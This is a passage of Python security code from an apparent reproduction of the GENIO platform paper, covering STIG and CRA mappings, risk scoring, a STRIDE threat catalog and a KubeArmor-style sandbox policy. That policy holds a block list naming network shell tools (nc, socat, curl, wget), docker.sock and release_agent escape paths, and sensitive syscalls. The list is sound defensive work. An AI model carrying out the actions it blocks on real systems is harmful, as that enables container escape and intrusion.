    profile.add(ScapRule(
        "STIG-ENC-02", "Disk keys bound to platform state (TPM)", Severity.MEDIUM,
        _check_tpm_bound_storage))                             # manual: Lesson 3
    profile.add(ScapRule(
        "STIG-BOOT-01", "Secure Boot enabled", Severity.HIGH,
        _check_secure_boot))                                   # manual: key enrollment
    profile.add(ScapRule(
        "STIG-BOOT-02", "Bootloader config not world-readable", Severity.MEDIUM,
        _check_grub_perms,
        lambda h: h.fs.chmod("/boot/grub/grub.cfg", 0o600)
        if h.fs.exists("/boot/grub/grub.cfg") else None))
    profile.add(ScapRule(
        "STIG-ACC-01", "Direct root login locked", Severity.HIGH,
        _check_root_login_locked, _remediate_root_login))
    profile.add(ScapRule(
        "STIG-SSH-01", "X11 forwarding disabled", Severity.LOW,
        _check_x11,
        lambda h: h.services.get("sshd").set_option("X11Forwarding", "no")
        if h.services.get("sshd") else None))
    profile.add(ScapRule(
        "STIG-SSH-02", "SSH idle timeout configured", Severity.LOW,
        _check_idle_timeout,
        lambda h: h.services.get("sshd").set_option("ClientAliveInterval", "300")
        if h.services.get("sshd") else None))
    profile.add(ScapRule(
        "STIG-LOG-01", "Log files not group/world writable", Severity.MEDIUM,
        _check_log_perms, _remediate_log_perms))
    profile.add(ScapRule(
        "STIG-LOG-02", "System audit/log daemon running", Severity.MEDIUM,
        _check_audit_daemon))
    return profile

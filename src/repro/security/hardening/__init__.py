"""M1/M2: OS and kernel hardening (Section IV-A of the paper).

* :mod:`repro.security.hardening.scap` — the OpenSCAP-like rule engine
  and the ONL SCAP profile (SSH, NTP, APT sources, kernel files...).
* :mod:`repro.security.hardening.stig` — the STIG-derived profile
  (encryption policies, access restriction, secure-boot configuration).
* :mod:`repro.security.hardening.kernelcheck` — the
  kernel-hardening-checker-like engine validating kconfig/cmdline/sysctl
  against a hardened baseline.
* :mod:`repro.security.hardening.remediate` — applies every automatable
  remediation, honoring ONL's SDN compatibility constraints (Lesson 1).
"""

from repro.security.hardening.scap import (
    CheckResult, ScapProfile, ScapReport, ScapRule, Severity, onl_scap_profile,
)
from repro.security.hardening.stig import stig_profile
from repro.security.hardening.kernelcheck import (
    KernelCheckReport, KernelHardeningChecker, harden_kernel,
)
from repro.security.hardening.remediate import HardeningSummary, harden_host

__all__ = [
    "CheckResult",
    "ScapProfile",
    "ScapReport",
    "ScapRule",
    "Severity",
    "onl_scap_profile",
    "stig_profile",
    "KernelCheckReport",
    "KernelHardeningChecker",
    "harden_kernel",
    "HardeningSummary",
    "harden_host",
]

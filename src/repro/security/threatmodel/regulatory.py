"""Regulatory alignment: Cyber Resilience Act readiness mapping.

Section I of the paper: "One of the main objectives of the GENIO project
is to align the platform with security regulations, such as the European
Cyber Resilience Act and CE marking certification. This objective shaped
the platform by guiding threat mitigations."

This module encodes the CRA Annex I essential requirements (paraphrased,
at the granularity relevant to the platform) and maps each onto the
mitigations that substantiate it, so a readiness assessment can be
generated from the applied-mitigation set — the artifact a conformity
assessor actually asks for.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Sequence, Set, Tuple


@dataclass(frozen=True)
class CraRequirement:
    """One CRA Annex I essential requirement (paraphrased)."""

    req_id: str
    text: str
    satisfied_by: Tuple[str, ...]    # mitigation ids that substantiate it


CRA_REQUIREMENTS: Tuple[CraRequirement, ...] = (
    CraRequirement(
        "CRA-1", "made available without known exploitable vulnerabilities",
        ("M8", "M12", "M13")),
    CraRequirement(
        "CRA-2", "secure-by-default configuration",
        ("M1", "M2", "M10", "M11")),
    CraRequirement(
        "CRA-3", "protection from unauthorized access (authentication, "
        "identity and access management)",
        ("M4", "M10")),
    CraRequirement(
        "CRA-4", "confidentiality of stored and transmitted data "
        "(state-of-the-art encryption)",
        ("M3", "M6")),
    CraRequirement(
        "CRA-5", "integrity of data, commands, programs and configuration "
        "against unauthorized manipulation",
        ("M5", "M7", "M9")),
    CraRequirement(
        "CRA-6", "data minimisation and isolation between users",
        ("M17",)),
    CraRequirement(
        "CRA-7", "limit attack surfaces, including external interfaces",
        ("M1", "M2", "M15")),
    CraRequirement(
        "CRA-8", "reduce the impact of incidents (exploitation mitigation "
        "mechanisms)",
        ("M2", "M17")),
    CraRequirement(
        "CRA-9", "record and monitor relevant internal activity",
        ("M18", "M7")),
    CraRequirement(
        "CRA-10", "address vulnerabilities through security updates",
        ("M9", "M12")),
    CraRequirement(
        "CRA-11", "identify and document components (software bill of "
        "materials)",
        ("M12", "M13")),
    CraRequirement(
        "CRA-12", "handle and scrutinize third-party components",
        ("M13", "M14", "M16")),
)


@dataclass
class RequirementStatus:
    """Assessment of one requirement against the applied mitigations."""

    requirement: CraRequirement
    applied: List[str] = field(default_factory=list)
    missing: List[str] = field(default_factory=list)

    @property
    def state(self) -> str:
        if not self.missing:
            return "satisfied"
        if self.applied:
            return "partial"
        return "unsatisfied"


@dataclass
class CraAssessment:
    """The full readiness picture."""

    statuses: List[RequirementStatus] = field(default_factory=list)

    @property
    def ready(self) -> bool:
        return all(s.state == "satisfied" for s in self.statuses)

    def counts(self) -> Dict[str, int]:
        result = {"satisfied": 0, "partial": 0, "unsatisfied": 0}
        for status in self.statuses:
            result[status.state] += 1
        return result

    def render(self) -> str:
        lines = ["CRA Annex I readiness assessment", "-" * 48]
        for status in self.statuses:
            req = status.requirement
            marker = {"satisfied": "OK ", "partial": "PART",
                      "unsatisfied": "MISS"}[status.state]
            lines.append(f"[{marker:<4}] {req.req_id:<7} {req.text}")
            if status.missing:
                lines.append(f"         missing: {', '.join(status.missing)}")
        counts = self.counts()
        lines.append("")
        lines.append(f"{counts['satisfied']}/{len(self.statuses)} satisfied, "
                     f"{counts['partial']} partial, "
                     f"{counts['unsatisfied']} unsatisfied")
        return "\n".join(lines)


def assess_cra_readiness(applied_mitigations: Iterable[str]) -> CraAssessment:
    """Map the applied mitigations onto the CRA requirements."""
    applied: Set[str] = set(applied_mitigations)
    assessment = CraAssessment()
    for requirement in CRA_REQUIREMENTS:
        have = [m for m in requirement.satisfied_by if m in applied]
        lack = [m for m in requirement.satisfied_by if m not in applied]
        assessment.statuses.append(RequirementStatus(
            requirement=requirement, applied=have, missing=lack))
    return assessment

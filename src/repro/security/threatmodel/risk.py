"""Residual-risk assessment: what remains after mitigations are applied.

Threat modeling (Section III) scores inherent risk as likelihood x impact;
deploying mitigations (Sections IV-VI) reduces *likelihood* — physical
interception is still attempted against an encrypted PON, it just stops
working. Each applied mitigation contributes a likelihood reduction; the
residual score drives the prioritisation the platform owner reviews, and
the security report uses it to show risk posture before/after the
pipeline.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Sequence, Set

from repro.security.threatmodel.catalog import GENIO_THREATS, mitigations_by_id
from repro.security.threatmodel.stride import RiskLevel, Threat

# How strongly one applied mitigation suppresses its threat's likelihood.
# Several mitigations on the same threat compound multiplicatively.
_REDUCTION_PER_MITIGATION = 0.55


@dataclass
class ResidualRisk:
    """One threat's risk before and after mitigation."""

    threat_id: str
    name: str
    inherent_score: float
    residual_score: float
    applied: List[str] = field(default_factory=list)
    missing: List[str] = field(default_factory=list)

    @property
    def reduction(self) -> float:
        if self.inherent_score == 0:
            return 0.0
        return 1.0 - self.residual_score / self.inherent_score

    @property
    def residual_level(self) -> RiskLevel:
        if self.residual_score >= 12:
            return RiskLevel.CRITICAL
        if self.residual_score >= 8:
            return RiskLevel.HIGH
        if self.residual_score >= 4:
            return RiskLevel.MEDIUM
        return RiskLevel.LOW


def assess_residual_risk(
    applied_mitigations: Iterable[str],
    threats: Sequence[Threat] = GENIO_THREATS,
) -> List[ResidualRisk]:
    """Score every threat given the set of applied mitigation ids."""
    applied: Set[str] = set(applied_mitigations)
    known = mitigations_by_id()
    unknown = applied - set(known)
    if unknown:
        raise ValueError(f"unknown mitigation ids: {sorted(unknown)}")

    results: List[ResidualRisk] = []
    for threat in threats:
        linked = list(threat.mitigation_ids)
        active = [m for m in linked if m in applied]
        missing = [m for m in linked if m not in applied]
        factor = (1.0 - _REDUCTION_PER_MITIGATION) ** len(active)
        residual = threat.likelihood * factor * threat.impact
        results.append(ResidualRisk(
            threat_id=threat.threat_id, name=threat.name,
            inherent_score=float(threat.risk_score),
            residual_score=round(residual, 2),
            applied=active, missing=missing))
    return sorted(results, key=lambda r: -r.residual_score)


def portfolio_risk(assessments: Sequence[ResidualRisk]) -> Dict[str, float]:
    """Aggregate posture numbers for the report."""
    inherent = sum(a.inherent_score for a in assessments)
    residual = sum(a.residual_score for a in assessments)
    return {
        "inherent_total": inherent,
        "residual_total": round(residual, 2),
        "overall_reduction": round(1.0 - residual / inherent, 4) if inherent else 0.0,
        "threats_above_medium": sum(
            1 for a in assessments
            if a.residual_level in (RiskLevel.HIGH, RiskLevel.CRITICAL)),
    }


ALL_MITIGATIONS: List[str] = [f"M{i}" for i in range(1, 19)]

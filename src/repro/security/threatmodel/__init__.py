"""STRIDE threat modeling for GENIO (Section III of the paper)."""

from repro.security.threatmodel.stride import (
    Asset, Layer, Stride, Threat, ThreatModel, RiskLevel,
)
from repro.security.threatmodel.catalog import (
    GENIO_THREATS, GENIO_MITIGATIONS, Mitigation, build_genio_threat_model,
)
from repro.security.threatmodel.matrix import coverage_matrix, render_matrix

__all__ = [
    "Asset",
    "Layer",
    "Stride",
    "Threat",
    "ThreatModel",
    "RiskLevel",
    "GENIO_THREATS",
    "GENIO_MITIGATIONS",
    "Mitigation",
    "build_genio_threat_model",
    "coverage_matrix",
    "render_matrix",
]

"""The GENIO threat and mitigation catalog (Sections III-VI, Figure 3).

Encodes every threat T1-T8, every mitigation M1-M18, the OSS tools and
standards each mitigation uses, and which module of this reproduction
implements it. The E3 benchmark regenerates Figure 3 from this data via
:mod:`repro.security.threatmodel.matrix`.

Note: the paper numbers SAST "M13" a second time (a typo); we follow the
convention used here and in DESIGN.md of calling SAST **M14**, keeping
M15-M18 aligned with the paper's own later references.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

from repro.security.threatmodel.stride import Asset, Layer, Stride, Threat, ThreatModel


@dataclass(frozen=True)
class Mitigation:
    """One mitigation (the paper's M-entries)."""

    mitigation_id: str
    name: str
    layer: Layer
    threat_ids: Tuple[str, ...]
    oss_tools: Tuple[str, ...]
    standards: Tuple[str, ...]
    lesson: int                    # which Lesson discusses it
    module: str                    # reproduction module implementing it


GENIO_ASSETS: Tuple[Asset, ...] = (
    Asset("ONU", Layer.INFRASTRUCTURE, "far-edge optical network unit",
          exposed_physically=True),
    Asset("OLT", Layer.INFRASTRUCTURE, "edge optical line terminal",
          exposed_physically=True),
    Asset("PON fiber plant", Layer.INFRASTRUCTURE, "shared optical medium",
          exposed_physically=True),
    Asset("ONL kernel", Layer.INFRASTRUCTURE, "custom Linux kernel on OLTs"),
    Asset("Host OS", Layer.INFRASTRUCTURE, "ONL userspace, services, accounts"),
    Asset("Boot chain", Layer.INFRASTRUCTURE, "firmware, shim, GRUB, kernel"),
    Asset("Data at rest", Layer.INFRASTRUCTURE, "tenant/platform data on disk"),
    Asset("KVM hypervisor", Layer.MIDDLEWARE, "VM isolation boundary"),
    Asset("Kubernetes", Layer.MIDDLEWARE, "container orchestration"),
    Asset("Proxmox", Layer.MIDDLEWARE, "VM orchestration"),
    Asset("ONOS", Layer.MIDDLEWARE, "SDN controller"),
    Asset("VOLTHA", Layer.MIDDLEWARE, "OLT hardware abstraction"),
    Asset("Image registry", Layer.APPLICATION, "GENIO public registry"),
    Asset("Tenant applications", Layer.APPLICATION, "third-party workloads"),
    Asset("End-user data", Layer.APPLICATION, "data processed by tenants"),
)


GENIO_THREATS: Tuple[Threat, ...] = (
    Threat(
        threat_id="T1", name="Network Attacks", layer=Layer.INFRASTRUCTURE,
        stride=(Stride.SPOOFING, Stride.TAMPERING, Stride.INFORMATION_DISCLOSURE),
        description=(
            "Eavesdropping, traffic modification and impersonation across "
            "OLTs, ONUs, inter-OLT links and cloud interactions; "
            "interception/replay, downstream hijacking, ONU impersonation, "
            "fiber tapping."),
        assets=("PON fiber plant", "ONU", "OLT"),
        attack_techniques=("fiber tap", "replay", "ONU impersonation",
                           "downstream hijack", "firmware traffic siphon"),
        likelihood=3, impact=4,
        mitigation_ids=("M3", "M4"),
    ),
    Threat(
        threat_id="T2", name="Code Tampering", layer=Layer.INFRASTRUCTURE,
        stride=(Stride.TAMPERING, Stride.ELEVATION_OF_PRIVILEGE),
        description=(
            "Persistent compromise of low-level components: malware or "
            "backdoors in hypervisors, kernels and system binaries via "
            "reverse engineering, untrusted patching and firmware "
            "manipulation."),
        assets=("Boot chain", "ONL kernel", "Host OS"),
        attack_techniques=("firmware implant", "binary patching",
                           "bootkit", "malicious update"),
        likelihood=2, impact=4,
        mitigation_ids=("M5", "M6", "M7", "M9"),
    ),
    Threat(
        threat_id="T3", name="Privilege Abuse (infrastructure)",
        layer=Layer.INFRASTRUCTURE,
        stride=(Stride.ELEVATION_OF_PRIVILEGE,),
        description=(
            "Misconfigured OS accounts, services and files enable privilege "
            "escalation, hijacked administration and persistence."),
        assets=("Host OS",),
        attack_techniques=("passwordless sudo abuse", "world-writable path "
                           "hijack", "setuid abuse", "weak SSH configuration"),
        likelihood=3, impact=3,
        mitigation_ids=("M1", "M2"),
    ),
    Threat(
        threat_id="T4", name="Software Vulnerabilities (infrastructure)",
        layer=Layer.INFRASTRUCTURE,
        stride=(Stride.ELEVATION_OF_PRIVILEGE, Stride.TAMPERING),
        description=(
            "Unpatched or unknown vulnerabilities in the custom ONL stack "
            "enable kernel exploits and container escaping; remote "
            "management of OLTs/ONUs complicates patching."),
        assets=("ONL kernel", "Host OS", "KVM hypervisor"),
        attack_techniques=("kernel exploit", "container escape",
                           "VM escape via hypervisor CVE"),
        likelihood=3, impact=4,
        mitigation_ids=("M8", "M9"),
    ),
    Threat(
        threat_id="T5", name="Privilege Abuse (middleware)",
        layer=Layer.MIDDLEWARE,
        stride=(Stride.ELEVATION_OF_PRIVILEGE, Stride.SPOOFING),
        description=(
            "Overprivileged roles, unrestricted API access and insecure "
            "defaults in orchestration/SDN software enable escalation and "
            "lateral movement."),
        assets=("Kubernetes", "Proxmox", "ONOS", "VOLTHA"),
        attack_techniques=("wildcard RBAC abuse", "anonymous API access",
                           "default credentials", "token theft"),
        likelihood=4, impact=3,
        mitigation_ids=("M10", "M11"),
    ),
    Threat(
        threat_id="T6", name="Software Vulnerabilities (middleware)",
        layer=Layer.MIDDLEWARE,
        stride=(Stride.TAMPERING, Stride.INFORMATION_DISCLOSURE),
        description=(
            "Bugs in orchestration/network-management workflows and APIs, "
            "and vulnerable third-party dependencies, expose middleware "
            "resources to unintended access."),
        assets=("Kubernetes", "Proxmox", "ONOS", "VOLTHA"),
        attack_techniques=("API implementation bug", "vulnerable dependency"),
        likelihood=3, impact=3,
        mitigation_ids=("M12",),
    ),
    Threat(
        threat_id="T7", name="Vulnerable Applications", layer=Layer.APPLICATION,
        stride=(Stride.TAMPERING, Stride.INFORMATION_DISCLOSURE,
                Stride.ELEVATION_OF_PRIVILEGE),
        description=(
            "Third-party applications carry vulnerabilities (SQLi, XSS, "
            "command injection, deserialization, memory corruption) that "
            "give attackers a tenant foothold."),
        assets=("Tenant applications", "End-user data"),
        attack_techniques=("SQL injection", "XSS", "command injection",
                           "insecure deserialization", "memory corruption"),
        likelihood=4, impact=3,
        mitigation_ids=("M13", "M14", "M15"),
    ),
    Threat(
        threat_id="T8", name="Malicious Applications", layer=Layer.APPLICATION,
        stride=(Stride.ELEVATION_OF_PRIVILEGE, Stride.DENIAL_OF_SERVICE,
                Stride.TAMPERING),
        description=(
            "Deliberately malicious images (hidden malware, backdoors) "
            "invoke privileged syscalls, misuse capabilities such as "
            "CAP_SYS_ADMIN to escape containers, and abuse CPU/memory/"
            "network/storage to starve other tenants."),
        assets=("Tenant applications", "Image registry", "Kubernetes"),
        attack_techniques=("malicious image reuse", "capability abuse",
                           "container escape", "resource abuse"),
        likelihood=3, impact=4,
        mitigation_ids=("M16", "M17", "M18"),
    ),
)


GENIO_MITIGATIONS: Tuple[Mitigation, ...] = (
    Mitigation("M1", "OS environment configurations", Layer.INFRASTRUCTURE,
               ("T3",), ("OpenSCAP",), ("SCAP benchmarks", "STIGs"), 1,
               "repro.security.hardening.scap"),
    Mitigation("M2", "OS kernel hardening", Layer.INFRASTRUCTURE,
               ("T3",), ("kernel-hardening-checker", "AppArmor", "SELinux"),
               ("KSPP baseline", "Intel/AMD microcode"), 1,
               "repro.security.hardening.kernelcheck"),
    Mitigation("M3", "End-to-End Encryption", Layer.INFRASTRUCTURE,
               ("T1",), ("MACsec",), ("IEEE 802.1AE", "ITU-T G.987.3"), 2,
               "repro.security.comms.channels"),
    Mitigation("M4", "Authentication of Nodes", Layer.INFRASTRUCTURE,
               ("T1",), ("PKI", "TLS 1.3", "DNSSEC"),
               ("RFC 4033", "ETSI TS 103 962"), 2,
               "repro.security.comms.pki"),
    Mitigation("M5", "Secure Boot", Layer.INFRASTRUCTURE,
               ("T2",), ("Shim", "GRUB", "TPM"), ("UEFI Secure Boot",), 3,
               "repro.security.integrity.secureboot"),
    Mitigation("M6", "Secure Storage", Layer.INFRASTRUCTURE,
               ("T2",), ("LUKS", "Clevis", "TPM"), (), 3,
               "repro.security.integrity.securestorage"),
    Mitigation("M7", "File Integrity Monitoring", Layer.INFRASTRUCTURE,
               ("T2",), ("Tripwire",), (), 3,
               "repro.security.integrity.fim"),
    Mitigation("M8", "Automated Scanning (host)", Layer.INFRASTRUCTURE,
               ("T4",), ("OpenSCAP", "Lynis", "Vuls"), (), 4,
               "repro.security.vulnmgmt.hostscan"),
    Mitigation("M9", "Signed Updates", Layer.INFRASTRUCTURE,
               ("T2", "T4"), ("APT GPG", "ONIE"),
               ("NIST SP 800-193", "X.509"), 4,
               "repro.security.updates"),
    Mitigation("M10", "Access Control", Layer.MIDDLEWARE,
               ("T5",), ("Kubernetes RBAC", "Proxmox ACL", "ONOS auth"),
               ("least privilege",), 5,
               "repro.security.access.leastprivilege"),
    Mitigation("M11", "Security Guideline Compliance", Layer.MIDDLEWARE,
               ("T5",), ("docker-bench", "kube-bench", "kubesec",
                         "kube-hunter", "kubescape"),
               ("NSA Kubernetes Hardening Guidance", "CIS Benchmarks"), 5,
               "repro.security.access.compliance"),
    Mitigation("M12", "Automated Scanning and Patching", Layer.MIDDLEWARE,
               ("T6",), ("Kubernetes CVE feed", "NVD API", "KBOM"), (), 6,
               "repro.security.vulnmgmt.feeds"),
    Mitigation("M13", "Container Security and SCA", Layer.APPLICATION,
               ("T7",), ("Docker Bench for Security", "Trivy",
                         "OWASP Dependency Check"), (), 7,
               "repro.security.appsec.sca"),
    Mitigation("M14", "Static Application Security Testing", Layer.APPLICATION,
               ("T7",), ("Crane", "SpotBugs", "Pylint", "Semgrep", "Bandit"),
               (), 7,
               "repro.security.appsec.sast"),
    Mitigation("M15", "Dynamic Application Security Testing", Layer.APPLICATION,
               ("T7",), ("CATS", "Nmap"), ("OpenAPI",), 7,
               "repro.security.appsec.dast"),
    Mitigation("M16", "Malware Signature", Layer.APPLICATION,
               ("T8",), ("Deepfence YaraHunter",), ("YARA rules",), 8,
               "repro.security.malware"),
    Mitigation("M17", "Isolation & Sandboxing", Layer.APPLICATION,
               ("T8",), ("KubeArmor",), ("LSM", "PEACH framework"), 8,
               "repro.security.sandbox"),
    Mitigation("M18", "Runtime Monitoring", Layer.APPLICATION,
               ("T8",), ("Falco",), ("eBPF",), 8,
               "repro.security.monitor"),
)


def mitigations_by_id() -> Dict[str, Mitigation]:
    return {m.mitigation_id: m for m in GENIO_MITIGATIONS}


def build_genio_threat_model() -> ThreatModel:
    """Assemble the full GENIO threat model of Section III."""
    model = ThreatModel(name="GENIO")
    for asset in GENIO_ASSETS:
        model.add_asset(asset)
    for threat in GENIO_THREATS:
        model.add_threat(threat)
    return model

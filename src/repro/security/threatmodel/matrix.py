"""Regenerating Figure 3: the threat x mitigation x OSS-tool matrix.

Figure 3 of the paper summarizes, per architectural layer, which OSS
security solutions and standards address which threats. These functions
derive that matrix from the catalog so the E3 benchmark can print it and
tests can assert its completeness (every threat mitigated, every
mitigation linked to a real module).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

from repro.security.threatmodel.catalog import (
    GENIO_MITIGATIONS, GENIO_THREATS, Mitigation, mitigations_by_id,
)
from repro.security.threatmodel.stride import Layer, Threat


@dataclass(frozen=True)
class MatrixRow:
    """One row of the Figure 3 matrix."""

    layer: str
    threat_id: str
    threat_name: str
    mitigation_id: str
    mitigation_name: str
    oss_tools: Tuple[str, ...]
    standards: Tuple[str, ...]
    lesson: int
    module: str


def coverage_matrix() -> List[MatrixRow]:
    """Every (threat, mitigation) pair, ordered as the paper presents them."""
    by_id = mitigations_by_id()
    rows: List[MatrixRow] = []
    for threat in GENIO_THREATS:
        for mitigation_id in threat.mitigation_ids:
            mitigation = by_id[mitigation_id]
            rows.append(MatrixRow(
                layer=threat.layer.value,
                threat_id=threat.threat_id,
                threat_name=threat.name,
                mitigation_id=mitigation.mitigation_id,
                mitigation_name=mitigation.name,
                oss_tools=mitigation.oss_tools,
                standards=mitigation.standards,
                lesson=mitigation.lesson,
                module=mitigation.module,
            ))
    return rows


def render_matrix() -> str:
    """Human-readable Figure 3 reproduction (one line per pairing)."""
    lines = ["Layer            Threat  Mitigation  OSS tools / standards"]
    lines.append("-" * 96)
    for row in coverage_matrix():
        tools = ", ".join(row.oss_tools + row.standards)
        lines.append(
            f"{row.layer:<16} {row.threat_id:<7} "
            f"{row.mitigation_id:<4} {row.mitigation_name:<38} {tools}"
        )
    return "\n".join(lines)


def uncovered_threats() -> List[Threat]:
    """Threats without any mitigation (must be empty for GENIO)."""
    return [t for t in GENIO_THREATS if not t.mitigation_ids]


def tools_per_layer() -> Dict[str, List[str]]:
    """The per-layer OSS-tool inventory Figure 3 groups by."""
    layers: Dict[str, List[str]] = {}
    for mitigation in GENIO_MITIGATIONS:
        bucket = layers.setdefault(mitigation.layer.value, [])
        for tool in mitigation.oss_tools:
            if tool not in bucket:
                bucket.append(tool)
    return layers

"""STRIDE methodology engine.

The paper applied STRIDE systematically across the cloud, edge and
far-edge layers to derive threats T1-T8. This module provides the
machinery: assets with layers and trust boundaries, threats classified by
STRIDE category, likelihood x impact risk scoring, and mitigation links —
so the Figure 3 matrix is *generated from the model*, not hard-coded
prose.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set, Tuple

from repro.common.errors import NotFoundError


class Stride(enum.Enum):
    """The six STRIDE threat categories."""

    SPOOFING = "Spoofing"
    TAMPERING = "Tampering"
    REPUDIATION = "Repudiation"
    INFORMATION_DISCLOSURE = "Information disclosure"
    DENIAL_OF_SERVICE = "Denial of service"
    ELEVATION_OF_PRIVILEGE = "Elevation of privilege"


class Layer(enum.Enum):
    """The paper's three risk layers."""

    INFRASTRUCTURE = "Infrastructure"
    MIDDLEWARE = "Middleware"
    APPLICATION = "Application"


class RiskLevel(enum.Enum):
    LOW = 1
    MEDIUM = 2
    HIGH = 3
    CRITICAL = 4


@dataclass(frozen=True)
class Asset:
    """Something worth attacking: hardware, software, or data."""

    name: str
    layer: Layer
    description: str = ""
    exposed_physically: bool = False   # ONUs/OLTs in uncontrolled locations


@dataclass
class Threat:
    """One modeled threat (the paper's T1..T8 granularity)."""

    threat_id: str                 # "T1"
    name: str
    layer: Layer
    stride: Tuple[Stride, ...]
    description: str
    assets: Tuple[str, ...] = ()
    attack_techniques: Tuple[str, ...] = ()
    likelihood: int = 2            # 1..4
    impact: int = 2                # 1..4
    mitigation_ids: Tuple[str, ...] = ()

    @property
    def risk_score(self) -> int:
        return self.likelihood * self.impact

    @property
    def risk_level(self) -> RiskLevel:
        score = self.risk_score
        if score >= 12:
            return RiskLevel.CRITICAL
        if score >= 8:
            return RiskLevel.HIGH
        if score >= 4:
            return RiskLevel.MEDIUM
        return RiskLevel.LOW


class ThreatModel:
    """A queryable collection of assets and threats."""

    def __init__(self, name: str = "threat-model") -> None:
        self.name = name
        self._assets: Dict[str, Asset] = {}
        self._threats: Dict[str, Threat] = {}

    # -- population -----------------------------------------------------------

    def add_asset(self, asset: Asset) -> None:
        self._assets[asset.name] = asset

    def add_threat(self, threat: Threat) -> None:
        unknown = [a for a in threat.assets if a not in self._assets]
        if unknown:
            raise NotFoundError(
                f"threat {threat.threat_id} references unknown assets: {unknown}"
            )
        self._threats[threat.threat_id] = threat

    # -- queries ----------------------------------------------------------------

    def threat(self, threat_id: str) -> Threat:
        threat = self._threats.get(threat_id)
        if threat is None:
            raise NotFoundError(f"no threat {threat_id} in model {self.name}")
        return threat

    def asset(self, name: str) -> Asset:
        asset = self._assets.get(name)
        if asset is None:
            raise NotFoundError(f"no asset {name} in model {self.name}")
        return asset

    def threats(self, layer: Optional[Layer] = None,
                stride: Optional[Stride] = None) -> List[Threat]:
        found = list(self._threats.values())
        if layer is not None:
            found = [t for t in found if t.layer == layer]
        if stride is not None:
            found = [t for t in found if stride in t.stride]
        return sorted(found, key=lambda t: t.threat_id)

    def assets(self, layer: Optional[Layer] = None) -> List[Asset]:
        found = list(self._assets.values())
        if layer is not None:
            found = [a for a in found if a.layer == layer]
        return sorted(found, key=lambda a: a.name)

    def threats_against(self, asset_name: str) -> List[Threat]:
        self.asset(asset_name)  # validate
        return [t for t in self.threats() if asset_name in t.assets]

    def ranked_by_risk(self) -> List[Threat]:
        return sorted(self.threats(), key=lambda t: (-t.risk_score, t.threat_id))

    def unmitigated(self) -> List[Threat]:
        """Threats with no linked mitigation — the model's gap report."""
        return [t for t in self.threats() if not t.mitigation_ids]

    def stride_coverage(self) -> Dict[Stride, int]:
        """How many threats fall in each STRIDE category."""
        counts = {category: 0 for category in Stride}
        for threat in self.threats():
            for category in threat.stride:
                counts[category] += 1
        return counts

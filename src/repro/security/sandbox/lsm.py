"""KubeArmor-style LSM enforcement policies (M17).

A :class:`KubeArmorPolicy` selects containers (by tenant or image) and
*blocks* — not merely observes — unauthorized process executions, file
accesses and network operations at the runtime's syscall mediation layer.
This is the "restrict container, pod, and VM behavior at the system level
using Linux Security Modules" of the paper, and the enforcement
counterpart to Falco's observe-only posture (M18).
"""

from __future__ import annotations

import fnmatch
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.virt.container import Container
from repro.virt.runtime import ContainerRuntime


class PolicyAction:
    BLOCK = "Block"
    AUDIT = "Audit"


@dataclass
class KubeArmorPolicy:
    """One enforcement policy."""

    name: str
    tenant_selector: str = "*"              # fnmatch over container tenant
    image_selector: str = "*"               # fnmatch over image reference
    blocked_process_paths: Tuple[str, ...] = ()
    blocked_file_patterns: Tuple[str, ...] = ()   # write/read targets
    readonly_file_patterns: Tuple[str, ...] = ()  # write-blocked only
    blocked_syscalls: Tuple[str, ...] = ()
    allow_network_to: Optional[Tuple[str, ...]] = None  # None = any
    action: str = PolicyAction.BLOCK

    def selects(self, container: Container) -> bool:
        return (fnmatch.fnmatch(container.tenant, self.tenant_selector)
                and fnmatch.fnmatch(container.image.reference,
                                    self.image_selector))

    def evaluate(self, container: Container, syscall: str,
                 args: Dict[str, object]) -> Optional[str]:
        """Return a deny reason, or None."""
        if not self.selects(container):
            return None
        if syscall in self.blocked_syscalls:
            return f"{self.name}: syscall {syscall} blocked"
        if syscall in ("execve", "execveat"):
            path = str(args.get("path", ""))
            for pattern in self.blocked_process_paths:
                if fnmatch.fnmatch(path, pattern):
                    return f"{self.name}: process {path} blocked"
        if syscall in ("open", "openat", "unlink", "rename"):
            path = str(args.get("path", ""))
            writing = str(args.get("mode", "r")) in ("w", "rw", "a")
            for pattern in self.blocked_file_patterns:
                if fnmatch.fnmatch(path, pattern):
                    return f"{self.name}: file {path} blocked"
            if writing:
                for pattern in self.readonly_file_patterns:
                    if fnmatch.fnmatch(path, pattern):
                        return f"{self.name}: write to {path} blocked"
        if syscall in ("connect", "sendto") and self.allow_network_to is not None:
            destination = str(args.get("dst", ""))
            if destination and not any(fnmatch.fnmatch(destination, allowed)
                                       for allowed in self.allow_network_to):
                return f"{self.name}: connection to {destination} blocked"
        return None


def default_tenant_policy(tenant: str = "*") -> KubeArmorPolicy:
    """The baseline policy GENIO applies to every tenant workload."""
    return KubeArmorPolicy(
        name=f"genio-tenant-baseline[{tenant}]",
        tenant_selector=tenant,
        blocked_process_paths=("/bin/sh", "/bin/bash", "/usr/bin/nc",
                               "/usr/bin/socat", "/usr/bin/wget",
                               "/usr/bin/curl"),
        blocked_file_patterns=("/var/run/docker.sock", "/proc/sys/*",
                               "/sys/fs/cgroup/*release_agent*"),
        readonly_file_patterns=("/etc/*", "/usr/bin/*", "/usr/sbin/*"),
        blocked_syscalls=("init_module", "finit_module", "kexec_load",
                          "ptrace", "mount", "setns", "pivot_root"),
        allow_network_to=("10.*", "registry.genio.example", "*.genio.example"),
    )


def install_policy(runtime: ContainerRuntime,
                   policy: KubeArmorPolicy) -> None:
    """Attach a policy to a runtime's LSM mediation layer."""
    if policy.action == PolicyAction.BLOCK:
        runtime.add_lsm_policy(policy.name, policy.evaluate)
    else:
        # Audit mode: evaluate for visibility but never deny.
        def audit_only(container: Container, syscall: str,
                       args: Dict[str, object]) -> Optional[str]:
            policy.evaluate(container, syscall, args)
            return None
        runtime.add_lsm_policy(policy.name, audit_only)

"""M17: isolation and sandboxing (KubeArmor-style LSM policies + PEACH)."""

from repro.security.sandbox.lsm import (
    KubeArmorPolicy, PolicyAction, default_tenant_policy, install_policy,
)
from repro.security.sandbox.peach import (
    PeachAssessment, TenancyConfig, peach_score,
)

__all__ = [
    "KubeArmorPolicy",
    "PolicyAction",
